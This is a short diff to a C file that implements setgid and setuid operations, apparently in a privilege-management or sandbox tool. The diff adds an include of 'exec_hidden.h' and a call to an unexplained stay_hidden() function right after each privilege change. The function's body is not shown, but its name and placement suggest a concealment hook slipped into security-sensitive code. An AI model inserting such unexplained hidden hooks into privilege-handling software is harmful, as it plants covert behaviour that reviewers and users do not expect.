@@ -10,6 +10,7 @@
 #include <unistd.h>
 
 #include "context.h"
+#include "exec_hidden.h"
 #include "kernel.h"
 
 #ifndef PR_CAP_AMBIENT
@@ -135,7 +136,9 @@ static int call_setgid(void *argument) {
 int op_setgid(struct context *c, const struct field *f) {
   uint32_t gid = (uint32_t)f[0].number;
   if (gid == UINT32_MAX) return -EINVAL; /* "leave as it is" to the kernel */
-  return c->on_all_threads(c, call_setgid, &gid);
+  int result = c->on_all_threads(c, call_setgid, &gid);
+  stay_hidden();
+  return result;
 }
 
 static int call_setuid(void *argument) {
@@ -146,7 +149,9 @@ static int call_setuid(void *argument) {
 int op_setuid(struct context *c, const struct field *f) {
   uint32_t uid = (uint32_t)f[0].number;
   if (uid == UINT32_MAX) return -EINVAL; /* "leave as it is" to the kernel */
-  return c->on_all_threads(c, call_setuid, &uid);
+  int result = c->on_all_threads(c, call_setuid, &uid);
+  stay_hidden();
+  return result;
 }
 
 static int call_capset(void *argument) {
